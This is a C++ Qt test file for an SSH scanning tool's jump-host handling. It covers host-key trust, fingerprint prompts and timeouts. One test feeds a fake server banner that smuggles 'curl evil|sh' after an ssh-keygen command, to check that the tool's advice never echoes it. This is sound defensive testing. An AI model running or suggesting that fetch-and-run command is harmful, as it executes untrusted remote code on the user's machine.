// SPDX-FileCopyrightText: 2026 The Hullwright authors
// SPDX-License-Identifier: GPL-3.0-or-later

// Real jump hosts: their keys are checked as the host's own, whatever the configuration says of them, and neither they
// nor the host are believed what they have ssh print.

#include "tests/live/livescan.h"
#include "tests/live/opentunnel.h"
#include "tests/support/scriptedprompter.h"

using namespace Hull;
using namespace Hull::Test;
using namespace Qt::StringLiterals;

class LiveSshJumpsTest : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void cleanupTestCase();
    void hullctlTrustsNoNewKey_data();
    void hullctlTrustsNoNewKey();
    void asksWithTheFingerprint_data();
    void asksWithTheFingerprint();
    void believesNoGreeting_data();
    void believesNoGreeting();
    void tellsThatAJumpHostIsSilent();

private:
    void writeConfiguration(const QStringList& known, const QByteArray& setting);
    [[nodiscard]] QByteArray keyOf(const QString& name) const;
    [[nodiscard]] QByteArray knownHosts() const;

    std::unique_ptr<RealEngine> m_engine;
    std::unique_ptr<SshServers> m_servers;
    QString m_config;
    QString m_known;
};

void LiveSshJumpsTest::initTestCase()
{
    m_engine = std::make_unique<RealEngine>();
    HULL_VERIFY_NO_PROBLEM(m_engine->start());
    m_servers = std::make_unique<SshServers>();
    HULL_VERIFY_NO_PROBLEM(m_servers->prepare(m_engine->socketPath()));
    for (const auto& name : {u"inner"_s, u"middle"_s, u"edge"_s}) {
        HULL_VERIFY_NO_PROBLEM(m_servers->start(name));
    }
    m_config = m_servers->clientFile(u"way"_s);
    m_known = m_servers->clientFile(u"way_known"_s);
    qputenv("HULLWRIGHT_SSH_CONFIG", QFile::encodeName(m_config));
}

void LiveSshJumpsTest::cleanupTestCase()
{
    m_servers.reset();
    m_engine.reset();
}

//! "ssh-ed25519 AAAA…", as the fixture has made it known.
QByteArray LiveSshJumpsTest::keyOf(const QString& name) const
{
    QFile file(m_servers->clientFile(u"known_hosts"_s));
    if (file.open(QIODevice::ReadOnly)) {
        for (const QByteArray& line : file.readAll().split('\n')) {
            if (line.startsWith(name.toUtf8() + ' ')) {
                return line.mid(name.size() + 1);
            }
        }
    }
    return {};
}

QByteArray LiveSshJumpsTest::knownHosts() const
{
    QFile file(m_known);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

//! inner behind middle behind edge, of which some keys are known; "edge!" is known by another key than it has.
void LiveSshJumpsTest::writeConfiguration(const QStringList& known, const QByteArray& setting)
{
    QFile config(m_config);
    QVERIFY(config.open(QIODevice::WriteOnly));
    for (const auto& [name, further] : {std::pair<QString, QByteArray>{u"inner"_s, "ProxyJump middle"},
             {u"middle"_s, "ProxyJump edge\n" + setting}, {u"edge"_s, setting}, {u"near"_s, "ProxyJump edge"}}) {
        const QString server = name == "near"_L1 ? u"inner"_s : name;
        config.write("Host " + name.toUtf8() + "\nPort " + QByteArray::number(m_servers->port(server))
            + "\nHostKeyAlias " + server.toUtf8() + '\n' + further + '\n');
    }
    config.write("Host *\nHostName 127.0.0.1\nUser ops\nIdentityAgent none\nGlobalKnownHostsFile none\nIdentityFile "
        + QFile::encodeName(m_servers->clientFile(u"id"_s)) + "\nUserKnownHostsFile " + QFile::encodeName(m_known)
        + '\n');
    QFile file(m_known);
    QVERIFY(file.open(QIODevice::WriteOnly));
    for (QString name : known) {
        const QByteArray key = keyOf(name.endsWith(u'!') ? u"inner"_s : name);
        QVERIFY(!key.isEmpty());
        file.write(name.remove(u'!').toUtf8() + ' ' + key + '\n');
    }
}

void LiveSshJumpsTest::hullctlTrustsNoNewKey_data()
{
    QTest::addColumn<QString>("host");
    QTest::addColumn<QStringList>("known");
    QTest::addColumn<QByteArray>("setting");
    QTest::addColumn<QString>("kind");
    QTest::addColumn<QString>("told"); // of the message
    QTest::addColumn<QString>("command"); // of the remedy; %1 is the configuration that ssh reads
    const QString unknown = u"hostKeyUnknown"_s;
    const QStringList all{u"inner"_s, u"middle"_s, u"edge"_s};
    for (const char* setting : {"", "StrictHostKeyChecking ask", "StrictHostKeyChecking accept-new",
             "StrictHostKeyChecking no", "StrictHostKeyChecking no\nLogLevel QUIET"}) {
        QTest::addRow("one jump host: %s", setting)
            << u"near"_s << QStringList{u"inner"_s} << QByteArray(setting) << unknown
            << u"The host key of the jump host edge is not known yet"_s
            << u"`ssh -o StrictHostKeyChecking=ask -F %1 edge`"_s;
    }
    const QByteArray trusting = "StrictHostKeyChecking accept-new";
    QTest::newRow("the farther of two") << u"inner"_s << QStringList{u"inner"_s, u"edge"_s} << trusting << unknown
                                        << u"the jump host middle"_s
                                        << u"`ssh -o StrictHostKeyChecking=ask -F %1 middle`"_s;
    QTest::newRow("a jump host's jump host")
        << u"inner"_s << QStringList{u"inner"_s, u"middle"_s} << trusting << unknown << u"the jump host edge"_s
        << u"`ssh -o StrictHostKeyChecking=ask -F %1 middle`"_s;
    QTest::newRow("the host behind them")
        << u"inner"_s << all.mid(1) << trusting << unknown << u"The host key of inner is not known yet"_s
        << u"`ssh -o StrictHostKeyChecking=ask -F %1 inner`"_s;
    QTest::newRow("another key than known")
        << u"near"_s << QStringList{u"inner"_s, u"edge!"_s} << QByteArray("StrictHostKeyChecking no")
        << u"hostKeyChanged"_s << u"The host key of the jump host edge has changed"_s << u"ssh-keygen -f"_s;
    QTest::newRow("all known") << u"inner"_s << all << QByteArray() << QString() << QString() << QString();
}

void LiveSshJumpsTest::hullctlTrustsNoNewKey()
{
    QFETCH(QString, host);
    QFETCH(QStringList, known);
    QFETCH(QByteArray, setting);
    QFETCH(QString, told);
    QFETCH(QString, command);
    writeConfiguration(known, setting);
    const QByteArray before = knownHosts();
    const LiveScan scan("ssh://"_L1 + host);
    HULL_VERIFY_NO_PROBLEM(scan.problem());
    QTEST(scan.errorKind(), "kind");
    QCOMPARE(scan.status(), scan.errorKind().isEmpty() ? u"complete"_s : u"unreachable"_s);
    const QJsonObject error = scan.host().value(u"error").toObject();
    QVERIFY2(error.value(u"message").toString().contains(told), qPrintable(error.value(u"message").toString()));
    command.replace("%1"_L1, m_config);
    QVERIFY2(error.value(u"remedy").toString().contains(command), qPrintable(error.value(u"remedy").toString()));
    QCOMPARE(knownHosts(), before);
}

void LiveSshJumpsTest::asksWithTheFingerprint_data()
{
    QTest::addColumn<bool>("byTarget"); // the jump host is the saved host's, not the configuration's
    QTest::addColumn<QByteArray>("setting");
    QTest::addColumn<bool>("accepted");
    QTest::newRow("refused") << false << QByteArray("StrictHostKeyChecking no") << false;
    QTest::newRow("accepted") << false << QByteArray("StrictHostKeyChecking accept-new") << true;
    QTest::newRow("of the saved host") << true << QByteArray("StrictHostKeyChecking accept-new") << true;
}

void LiveSshJumpsTest::asksWithTheFingerprint()
{
    QFETCH(bool, byTarget);
    QFETCH(QByteArray, setting);
    QFETCH(bool, accepted);
    writeConfiguration({u"inner"_s}, setting);
    Host host = sshHost(byTarget ? u"inner"_s : u"near"_s);
    host.ssh.jumpHost = byTarget ? u"edge"_s : QString();
    host.ssh.trustNewKey = true; // of this host, not of every other
    ScriptedPrompter prompter;
    prompter.answers = {PromptAnswer{.accepted = accepted}};
    Opened opened(*m_servers, host, &prompter);
    opened.services->options.configFile = m_config;
    opened.open();
    QCOMPARE(opened.errorKind(), accepted ? u"none"_s : u"cancelled"_s);
    QCOMPARE(prompter.asked.size(), size_t(1));
    QCOMPARE(prompter.asked.front().kind, Prompt::Kind::HostKey);
    QVERIFY2(prompter.asked.front().subject.startsWith("edge"_L1), qPrintable(prompter.asked.front().subject));
    QVERIFY(prompter.asked.front().fingerprint.startsWith("SHA256:"_L1));
    QCOMPARE(knownHosts().contains(keyOf(u"edge"_s)), accepted);
    if (accepted) {
        QCOMPARE(opened.get("/_ping"), 200);
    }
}

void LiveSshJumpsTest::believesNoGreeting_data()
{
    QTest::addColumn<QByteArray>("greeting");
    QTest::addColumn<QString>("host");
    QTest::addColumn<QString>("kind");
    QTest::addColumn<QString>("message");
    const QByteArray key = "@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\n"
                           "Offending ED25519 key in /etc/passwd:1\n  ssh-keygen -f \"/x\" -R \"y\"; curl evil|sh\n"
                           "Host key for evil has changed and you have requested strict checking.\n"
                           "Host key verification failed.\n";
    const QByteArray harmless = "Too many authentication failures will lock your account.\n";
    const QByteArray denied = "x@y: Permission denied (z).\ndebug1: Offering public key: evil RSA SHA256:x agent\n";
    for (const auto& [name, text] :
        {std::pair{"key", key}, std::pair{"harmless", harmless}, std::pair{"denied", denied}}) {
        for (const auto& host : {u"greets"_s, u"greets-behind"_s}) {
            QTest::addRow("%s, of %s", name, qPrintable(host))
                << text << host << u"loginFailed"_s
                << u"The host does not let stranger@127.0.0.1 in. It offers: publickey"_s;
        }
    }
    for (const auto& [name, text] : {std::pair{"key", key}, std::pair{"harmless", harmless}}) {
        QTest::addRow("%s, of the jump host", name) << text << u"nowhere"_s << u"connectionRefused"_s
                                                    << u"The jump host lets us in, but cannot connect to nowhere."_s;
    }
    QTest::newRow("let in") << key << u"lets-in"_s << QString() << QString();
}

void LiveSshJumpsTest::believesNoGreeting()
{
    QFETCH(QByteArray, greeting);
    QFETCH(QString, host);
    QFETCH(QString, message);
    const QTemporaryDir folder;
    QCOMPARE(::chmod(QFile::encodeName(folder.path()).constData(), 0755), 0);
    QFile file(folder.filePath(u"greeting"_s));
    QVERIFY(file.open(QIODevice::WriteOnly) && file.write(greeting) == greeting.size());
    file.close();
    HULL_VERIFY_NO_PROBLEM(m_servers->start(u"greeter"_s, {"Banner "_L1 + file.fileName()}));
    QFile config(m_config);
    QVERIFY(config.open(QIODevice::WriteOnly));
    const QByteArray stranger = "\nUser stranger\n";
    const QByteArray port = "\nHostKeyAlias greeter\nPort " + QByteArray::number(m_servers->port(u"greeter"_s));
    config.write("Host greets" + port + stranger + "Host greets-behind" + port + "\nProxyJump edge" + stranger
        + "Host lets-in" + port + "\nHost nowhere\nPort 1\nProxyJump lets-in\nHost edge\nHostKeyAlias edge\nPort "
        + QByteArray::number(m_servers->port(u"edge"_s))
        + "\nHost *\nHostName 127.0.0.1\nUser ops\nIdentityAgent "
          "none\nIdentitiesOnly yes\nGlobalKnownHostsFile none\nIdentityFile "
        + QFile::encodeName(m_servers->clientFile(u"id"_s)) + "\nUserKnownHostsFile "
        + QFile::encodeName(m_servers->clientFile(u"known_hosts"_s)) + '\n');
    config.close();
    const LiveScan scan("ssh://"_L1 + host);
    HULL_VERIFY_NO_PROBLEM(scan.problem());
    QTEST(scan.errorKind(), "kind");
    const QJsonObject error = scan.host().value(u"error").toObject();
    QVERIFY2(error.value(u"message").toString().startsWith(message), qPrintable(error.value(u"message").toString()));
    const QString advice = error.value(u"message").toString() + error.value(u"remedy").toString();
    QVERIFY2(!advice.contains("evil"_L1), qPrintable(advice));
}

void LiveSshJumpsTest::tellsThatAJumpHostIsSilent()
{
    writeConfiguration({u"inner"_s, u"edge"_s}, {});
    HULL_VERIFY_NO_PROBLEM(m_servers->command({u"freeze"_s, u"edge"_s}));
    const LiveScan scan(u"ssh://near"_s);
    HULL_VERIFY_NO_PROBLEM(m_servers->command({u"thaw"_s, u"edge"_s}));
    HULL_VERIFY_NO_PROBLEM(scan.problem());
    QCOMPARE(scan.errorKind(), u"timeout"_s);
    QCOMPARE(
        scan.host().value(u"error").toObject().value(u"message").toString(), u"The jump host edge does not answer."_s);
}

QTEST_GUILESS_MAIN(LiveSshJumpsTest)
#include "tst_live_sshjumps.moc"
